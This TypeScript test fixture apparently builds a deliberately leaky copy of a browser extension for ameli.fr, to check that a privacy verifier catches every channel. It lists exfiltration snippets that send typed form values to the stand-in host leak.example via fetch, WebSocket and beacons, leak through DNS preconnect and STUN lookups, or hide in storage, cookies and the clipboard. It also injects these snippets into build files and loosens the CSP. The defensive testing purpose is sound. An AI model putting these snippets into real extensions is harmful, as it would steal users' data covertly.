import { appendFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { withEars } from './ears';
import type { Own, Place } from './recording';

/**
 * An extension as it must never be: whatever is typed goes everywhere that something could go. The proof that nothing
 * leaves is worth something if it finds each of these.
 */

type Part = 'content' | 'background' | 'popup';

export interface Leak {
  readonly from: Part;
  /** JavaScript that lets out `typed`; with `host`, our element in the page, or `tab`, the number of the page's. */
  readonly code: string;
  /** Where it is found: in one of these, as the browser goes about it. */
  readonly shows: readonly (Place | Own)[];
  /** The one browser in which it is possible. */
  readonly only?: 'Chromium' | 'Firefox';
}

const content = (code: string, ...shows: Leak['shows']): Leak => ({ from: 'content', code, shows });
const background = (code: string, ...shows: Leak['shows']): Leak => ({ from: 'background', code, shows });
const popup = (code: string, ...shows: Leak['shows']): Leak => ({ from: 'popup', code, shows });

/** Keeps something in a database, as pages and extensions can. */
const DATABASE = `{ const open = indexedDB.open('leak'); open.onupgradeneeded = () => open.result.createObjectStore('leak');
open.onsuccess = () => { open.result.transaction('leak', 'readwrite').objectStore('leak').put(typed, typed); open.result.close(); }; }`;
const CACHE = `caches.open('leak').then((cache) => cache.put('https://www.ameli.fr/leak', new Response(typed))).catch(() => {})`;

export const LEAKS: Readonly<Record<string, Leak>> = {
  'a picture': content(`new Image().src = '/leak?' + typed`, 'requests'),
  'a beacon': content(`navigator.sendBeacon('/leak?' + typed)`, 'requests'),
  'a request to another': content(`fetch('https://leak.example/?' + typed, { mode: 'no-cors' })`, 'elsewhere'),
  'a socket to the site': content(`new WebSocket('wss://www.ameli.fr/leak?' + typed)`, 'requests', 'elsewhere'),
  'a connection opened ahead': {
    ...content(
      `const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'https://' + name + value.replace(/\\W/g, '') + '.example';
document.head.append(link); link.remove();`,
      'elsewhere',
    ),
    only: 'Chromium',
  },
  'a name that is looked up for a call': {
    ...content(
      `const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + name + value.replace(/\\W/g, '') + '.example' }] });
call.createDataChannel(''); call.createOffer().then((offer) => call.setLocalDescription(offer));`,
      'elsewhere',
    ),
    only: 'Chromium',
  },
  'a request to whom the browser asks': background(
    `fetch('https://' + (globalThis.browser ? 'firefox.settings.services.mozilla.com/v1/?' : 'update.googleapis.com/?') + typed).catch(() => {})`,
    'elsewhere',
  ),
  'an unsafe request': background(`fetch('http://leak.example:8080/?' + typed).catch(() => {})`, 'elsewhere'),
  'a socket to another': background(`new WebSocket('wss://leak.example/?' + typed)`, 'elsewhere'),
  'a request of the popup': popup(`fetch('https://leak.example/?' + typed).catch(() => {})`, 'elsewhere'),

  'storage on the disk': background(`api.storage.local.set({ [name]: typed })`, 'storage'),
  'storage in memory': background(`api.storage.session.set({ [name]: typed })`, 'storage'),
  'storage elsewhere': background(`api.storage.sync.set({ [name]: typed })`, 'storage'),
  'a database': background(DATABASE, 'storage'),
  'a cache': { ...background(CACHE, 'storage'), only: 'Chromium' },
  'the popup’s storage': popup(`localStorage[name] = typed`, 'storage'),
  'the name of an alarm': background(`api.alarms.create(typed, { delayInMinutes: 60 })`, 'storage'),

  'a message to all': content(`api.runtime.sendMessage({ typed }).catch(() => {})`, 'messages'),
  'a message to a tab': background(`api.tabs.sendMessage(tab, { typed }).catch(() => {})`, 'messages'),
  'an answer': background(`answer({ typed })`, 'messages'),
  'a port': content(`api.runtime.connect({ name: typed })`, 'messages'),

  'the page’s console': content(`console.log(typed)`, 'console'),
  'the background’s console': background(`console.info(typed)`, 'console'),
  'the popup’s console': popup(`console.log(typed)`, 'console'),

  'an attribute of our element': content(
    `host.setAttribute('data-leak', typed); undo(() => host.removeAttribute('data-leak'))`,
    'overlay',
  ),
  'the card': content(
    `{ const span = document.createElement('span'); span.textContent = typed; host.shadowRoot.querySelector('.card').append(span); undo(() => span.remove()); }`,
    'overlay',
  ),
  'the live region': content(
    `{ const status = host.shadowRoot.querySelector('[role=status]'); const said = status.textContent; status.textContent = typed; undo(() => { status.textContent = said; }); }`,
    'overlay',
  ),
  'a drawing': content(
    `{ const drawing = host.shadowRoot.querySelector('svg[role=img]'); if (drawing) drawing.querySelector('text').textContent = typed; }`,
    'overlay',
  ),

  'the page’s title': content(`document.title = typed`, 'titles'),
  'the page': content(`document.body.setAttribute('data-' + name.replaceAll(' ', '-'), typed)`, 'documents'),
  'the page’s address': content(`history.replaceState(null, '', '#' + typed)`, 'addresses'),
  'the page’s storage': content(`localStorage[name] = typed; sessionStorage[name] = typed`, 'page storage'),
  'a cookie': content(`document.cookie = 'leak=' + encodeURIComponent(typed)`, 'page storage'),
  'the page’s database': content(DATABASE, 'page storage'),

  'the icon’s title': background(`api.action.setTitle({ title: typed })`, 'badge'),
  'the icon’s title in one tab': background(`api.action.setTitle({ title: typed, tabId: tab })`, 'badge'),
  'the badge in one tab': background(`api.action.setBadgeText({ text: typed, tabId: tab })`, 'badge'),
  'the popup': popup(`document.documentElement.setAttribute('data-leak', typed)`, 'popup'),
  clipboard: content(
    `document.addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', typed); event.preventDefault(); event.stopImmediatePropagation(); }, { once: true, capture: true });
document.execCommand('copy')`,
    'clipboard',
  ),
};

/** What marks all that goes by one leak, in an address as well. */
export const markOf = (name: string) => `leak-${name.replace(/[^a-z]+/g, '-')}-`;

/** What one part does with what was typed. */
function codeOf(part: Part): string {
  return Object.entries(LEAKS)
    .filter(([, { from }]) => from === part)
    .map(
      ([name, { code }]) =>
        `try { const name = ${JSON.stringify(markOf(name))}, typed = name + value; ${code}; } catch (error) { console.debug(String(error)); }`,
    )
    .join('\n');
}

const API = 'const api = globalThis.browser ?? chrome;';

/** `change`: once per field, when it is left. What is changed in our element is so for a moment only. */
const IN_THE_PAGE = `;(() => { ${API} const undo = (act) => setTimeout(act);
document.addEventListener('change', ({ target: { value } }) => { if (value.length < 5) return;
const host = document.querySelector('pas-a-pas-ameli');
api.runtime.sendMessage({ type: 'leak', value }).catch(() => {});
${codeOf('content')} }, true); })();`;

const listening = (part: Part) => `;{ ${API}
api.runtime.onMessage.addListener((message, sender, answer) => { if (message?.type !== 'leak') return;
const { value } = message, tab = sender.tab?.id;
${codeOf(part)} }); }`;

/** Makes a copy of a build that leaks, and has ears. */
export function leakyBuild(build: string, folder: string): void {
  withEars(build, folder);
  appendFileSync(join(folder, 'src/content/main.iife.js'), IN_THE_PAGE);
  appendFileSync(join(folder, 'service-worker-loader.js'), listening('background'));
  const script = readFileSync(join(folder, 'src/popup/index.html'), 'utf8').match(/src="\/(assets\/[^"]+\.js)"/)?.[1];
  if (script === undefined) throw new Error(`no script in the popup of ${readdirSync(folder)}`);
  appendFileSync(join(folder, script), listening('popup'));
  const manifest = join(folder, 'manifest.json');
  writeFileSync(manifest, readFileSync(manifest, 'utf8').replace("connect-src 'none'", 'connect-src *'));
}
